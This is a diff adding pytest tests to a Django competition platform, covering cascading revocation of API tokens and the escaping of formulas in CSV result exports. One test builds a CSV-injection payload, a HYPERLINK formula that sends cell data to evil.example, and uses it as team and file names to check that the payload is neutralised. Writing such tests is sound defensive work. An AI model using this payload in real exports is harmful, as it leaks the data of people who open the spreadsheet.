@@ -9,12 +9,15 @@ reference's content; or any score of the blind phase (before release).
 """
 from __future__ import annotations
 
+import csv
+import io
 import re
 import uuid
 
 import pytest
 from django.conf import settings
 from django.urls import URLPattern, URLResolver, get_resolver
+from django.utils import timezone
 
 from shareval.platform.accounts.models import ApiToken
 from shareval.platform.submissions import queue, service
@@ -40,7 +43,7 @@ RULES = {
     "review-team": (set(), ORG),
     "export-csv": (ORG, ORG),
     "submission": ({"bob", "org"}, {"bob", "org"}), "submission-plot": (set(), set()),
-    "submission-action": (set(), {"bob"}),
+    "submission-action": (set(), {"bob", "org"}),
     "api-competitions": (ALL, set()), "api-competition": (ALL, set()),
     "api-leaderboard": (ALL, set()), "api-release": (set(), ORG), "api-rescore": (set(), ORG),
     "api-export-csv": (ORG, set()),
@@ -291,3 +294,98 @@ def test_wrong_passwords_lock_the_account_from_that_ip_until_the_cool_off(world,
     assert _login(client, "bob", "bob-pass-123").status_code == 302
     assert client.session["_auth_user_id"] == str(world["users"]["bob"].pk)
     assert settings.AXES_COOLOFF_TIME == dt.timedelta(minutes=15)
+
+
+def test_a_token_minted_by_a_token_dies_with_its_parent(scene, client):
+    bob = scene["users"]["bob"]
+    root, root_key = ApiToken.issue(bob, "root")
+    keys = [root_key]
+    for name in ("child", "grandchild"):            # each minted with the previous key
+        r = client.post("/api/tokens/", {"name": name},
+                        HTTP_AUTHORIZATION=f"Token {keys[-1]}")
+        assert r.status_code == 201
+        keys.append(r.json()["key"])
+    chain = list(ApiToken.objects.filter(user=bob, name__in=["root", "child", "grandchild"])
+                 .order_by("created"))
+    assert [t.parent_id for t in chain] == [None, chain[0].pk, chain[1].pk]
+    sibling, sibling_key = ApiToken.issue(bob, "sibling")           # made in the browser
+    client.force_login(bob)
+    assert client.post(f"/accounts/tokens/{root.pk}/revoke/").status_code == 302
+    client.logout()
+    for key in keys:
+        r = client.get("/api/tokens/", HTTP_AUTHORIZATION=f"Token {key}")
+        assert r.status_code == 401, key
+    assert all(t.revoked for t in ApiToken.objects.filter(pk__in=[t.pk for t in chain]))
+    assert client.get("/api/tokens/", HTTP_AUTHORIZATION=f"Token {sibling_key}").status_code \
+        == 200
+
+
+def test_a_child_is_refused_when_only_its_parent_row_says_revoked(scene, client):
+    # e.g. a child minted while the parent was being revoked: checked on every use
+    bob = scene["users"]["bob"]
+    parent, parent_key = ApiToken.issue(bob, "parent")
+    r = client.post("/api/tokens/", {"name": "child"}, HTTP_AUTHORIZATION=f"Token {parent_key}")
+    child_key = r.json()["key"]
+    ApiToken.objects.filter(pk=parent.pk).update(revoked=timezone.now())
+    assert ApiToken.objects.get(name="child", user=bob).revoked is None
+    r = client.get("/api/submissions/", HTTP_AUTHORIZATION=f"Token {child_key}")
+    assert r.status_code == 401 and "revoked" in r.json()["error"]
+
+
+def test_revoking_over_the_api_revokes_descendants(scene, client):
+    bob = scene["users"]["bob"]
+    parent, parent_key = ApiToken.issue(bob, "p")
+    child_key = client.post("/api/tokens/", {"name": "c"},
+                            HTTP_AUTHORIZATION=f"Token {parent_key}").json()["key"]
+    client.force_login(bob)
+    assert client.delete(f"/api/tokens/{parent.pk}/").status_code == 200
+    assert ApiToken.objects.get(name="c", user=bob).revoked is not None
+    client.logout()
+    assert client.get("/api/tokens/", HTTP_AUTHORIZATION=f"Token {child_key}").status_code == 401
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_escapes_formulas_in_team_and_file_names(world, client, start):
+    from shareval.platform.competitions.models import Membership, Team
+    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    users = world["users"]
+    team = Team.objects.create(competition=world["comp"], name=evil, lead=users["dave"])
+    Membership.objects.create(team=team, user=users["dave"], status=Membership.APPROVED)
+    service.submit(users["dave"], team, world["ds"]["dev"],
+                   Upload(f"{start}cmd.tsv", run_with_accuracy(12)))
+    queue.drain()
+    client.force_login(world["org"])
+    for url in (f"/c/{world['comp'].slug}/organize/results.csv",
+                f"/api/competitions/{world['comp'].slug}/results.csv"):
+        text = client.get(url).content.decode()
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        mine = [r for r in rows if r["team"].endswith(evil[1:])]
+        assert len(mine) == 1
+        assert mine[0]["team"] == "'" + evil and mine[0]["file"] == f"'{start}cmd.tsv"
+        for r in rows:                       # no text cell anywhere starts a formula
+            assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values()), r
+        assert float(mine[0]["accuracy"]) == pytest.approx(0.6)
+
+
+def test_formula_escape_leaves_numbers_and_plain_text_alone_and_round_trips():
+    from shareval.formats.spreadsheet import escape_formula, unescape_formula
+    assert escape_formula(-0.25) == -0.25 and escape_formula(0) == 0
+    assert escape_formula(None) is None
+    assert escape_formula("Team A") == "Team A" and escape_formula("a=b") == "a=b"
+    assert escape_formula("-1") == "'-1" and escape_formula("@SUM(A1)") == "'@SUM(A1)"
+    for text in ("=x", "+x", "-x", "@x", "\tx", "\rx", "plain", "'quoted", "'=x", ""):
+        assert unescape_formula(escape_formula(text)) == text
+    assert unescape_formula("'plain") == "'plain"            # only the escape is removed
+
+
+def test_csv_rows_stay_whole_with_line_breaks_in_names(world):
+    from shareval.platform.competitions.export import results_csv
+    users = world["users"]
+    for name in ("a\rb.tsv", "c\nd.tsv", "e\r\nf.tsv"):
+        service.submit(users["alice"], world["teams"]["Team A"], world["ds"]["dev"],
+                       Upload(name, run_with_accuracy(12)))
+    queue.drain()
+    rows = list(csv.DictReader(io.StringIO(results_csv(world["comp"]), newline="")))
+    assert sorted(r["file"] for r in rows if r["team"] == "Team A") == \
+        ["a\rb.tsv", "c\nd.tsv", "e\r\nf.tsv"]
+    assert all(r["submission"] for r in rows)
